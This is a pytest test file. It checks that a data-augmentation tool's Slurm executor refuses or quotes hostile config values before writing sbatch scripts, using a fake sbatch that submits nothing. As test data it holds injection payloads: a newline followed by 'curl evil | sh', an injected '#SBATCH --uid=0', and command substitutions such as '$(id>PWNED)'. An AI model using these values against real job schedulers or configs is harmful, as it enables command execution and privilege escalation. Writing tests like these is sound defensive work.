"""Hostile Slurm values (issue 32, item 2): nothing a config says can add a line to the generated sbatch script or
run a command in it.

A fake ``sbatch`` on ``PATH`` records its argv and the script it was given and submits nothing. A value with a
newline or another control character (``slurm.logging_dir``, ``slurm.env_command``, ``executor_options`` keys and
values) is refused naming its key before anything is submitted; a path sbatch's own ``#SBATCH`` parser would cut
is refused too. What does reach the script's shell lines is quoted: the script, run by bash with fake ``srun``,
``launch_pickled_pipeline`` and ``merge_stats``, hands them the paths as written, ``$(…)`` unexpanded.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest
from hostile_support import Case, Env, check_case, params

pytestmark = pytest.mark.timeout(120)

FAKE_SBATCH = """#!/bin/sh
# records what it was asked to submit and submits nothing
n=$(ls "$SBATCH_RECORD" | grep -c '^script-')
for last; do :; done
cp "$last" "$SBATCH_RECORD/script-$n"
printf '%s\\n' "$@" > "$SBATCH_RECORD/argv-$n"
echo "Submitted batch job $((4242 + n))"
"""
# stands in for a program the script runs: records its argv, one argument per line
FAKE_TOOL = """#!/bin/sh
printf '%s\\n' "$@" > "$SBATCH_RECORD/ran-$(basename "$0")"
"""


@pytest.fixture
def sbatch(tmp_path: Path, monkeypatch) -> Path:
    """A fake sbatch (and srun, launch_pickled_pipeline, merge_stats) first on PATH; the directory it records in."""
    pytest.importorskip("datatrove")
    bin_dir, record = tmp_path / "bin", tmp_path / "sbatch-record"
    bin_dir.mkdir()
    record.mkdir()
    for name, text in [("sbatch", FAKE_SBATCH)] + [(t, FAKE_TOOL) for t in ("srun", "launch_pickled_pipeline", "merge_stats")]:
        (bin_dir / name).write_text(text)
        (bin_dir / name).chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv("SBATCH_RECORD", str(record))
    return record


def AUG(e: Env, out: str | None = None, **conf) -> list[str]:
    """``midtrain augment`` with executor datatrove_slurm; ``conf`` (with newlines in values) goes through a YAML file."""
    base = {"input": [str(e.a.prose)], "tokenizer": str(e.a.tok), "out": out or str(e.out), "executor": "datatrove_slurm"}
    slurm = {"partition": "cpu", **conf.pop("slurm", {})}
    return ["augment", "--config", e.write("aug.yaml", json.dumps({**base, "slurm": slurm, **conf}))]


CASES = [
    Case("slurm/logging-dir-newline", lambda e: AUG(e, slurm={"logging_dir": str(e.tmp / "logs\necho INJECTED")}), ["slurm.logging_dir"]),
    Case("slurm/logging-dir-carriage-return", lambda e: AUG(e, slurm={"logging_dir": str(e.tmp / "logs\rx")}), ["slurm.logging_dir"]),
    Case("slurm/logging-dir-comment", lambda e: AUG(e, slurm={"logging_dir": str(e.tmp / "logs#x")}), ["slurm.logging_dir"]),
    Case("slurm/logging-dir-space", lambda e: AUG(e, slurm={"logging_dir": str(e.tmp / "my logs")}), ["slurm.logging_dir"]),
    Case("slurm/out-space-is-the-logging-dir", lambda e: AUG(e, out=str(e.tmp / "my out")), ["key 'out'"]),
    Case("slurm/env-command-newline", lambda e: AUG(e, slurm={"env_command": "source a\ncurl evil | sh"}), ["slurm.env_command"]),
    Case(
        "slurm/executor-options-value-newline",
        lambda e: AUG(e, executor_options={"mail_user": "me@x\n#SBATCH --uid=0"}),
        ["executor_options.mail_user"],
    ),
    Case(
        "slurm/executor-options-nested-newline",
        lambda e: AUG(e, executor_options={"srun_args": {"cpu-bind": "none\nid"}}),
        ["executor_options.srun_args.cpu-bind"],
    ),
    Case(
        "slurm/executor-options-key-newline",
        lambda e: AUG(e, executor_options={"srun_args": {"x\nid": "1"}}),
        ["executor_options.srun_args"],
    ),
    Case("slurm/sbatch-args-tab", lambda e: AUG(e, slurm={"sbatch_args": {"account": "a\tb"}}), ["slurm.sbatch_args"]),
]


@pytest.mark.parametrize("case", params(CASES))
def test_hostile(case: Case, env: Env, sbatch: Path, capsys) -> None:
    check_case(case, env, capsys)
    assert not list(sbatch.iterdir()), "sbatch was called for a refused config"


def test_values_reaching_the_script_are_quoted(env: Env, sbatch: Path, capsys) -> None:
    venv = env.tmp / "v env" / "act$(id>PWNED2)"  # a real file with a space and a command substitution in its path
    venv.parent.mkdir()
    venv.write_text(f"touch '{sbatch}/sourced'\n")
    out = env.tmp / "aug$(id>PWNED)"
    options = {"venv_path": str(venv), "srun_args": {"cpu-bind": "none;id>PWNED3"}}
    check_case(Case("slurm/quoted", lambda e: AUG(e, out=str(out), executor_options=options), code=0), env, capsys)
    scripts = sorted(sbatch.glob("script-*"))
    assert len(scripts) == 2, "expected the job array and datatrove's merge-stats job"
    for script in scripts:
        subprocess.run(["bash", str(script)], cwd=env.tmp, env=os.environ, check=True, capture_output=True)
    assert not list(env.tmp.rglob("PWNED*")), "a command substitution in a value ran in the sbatch script"
    assert (sbatch / "sourced").exists(), "venv_path was not sourced as written"
    logs = out / "datatrove"
    srun = (sbatch / "ran-srun").read_text().splitlines()
    assert srun == ["--cpu-bind=none;id>PWNED3", "-l", "-n", "1", "launch_pickled_pipeline", str(logs / "executor.pik")]
    merge = (sbatch / "ran-merge_stats").read_text().splitlines()
    assert merge == [str(logs / "stats"), "-o", str(logs / "stats.json")]
    assert f"#SBATCH --output={logs}/slurm_logs/%A_%a.out" in scripts[0].read_text()
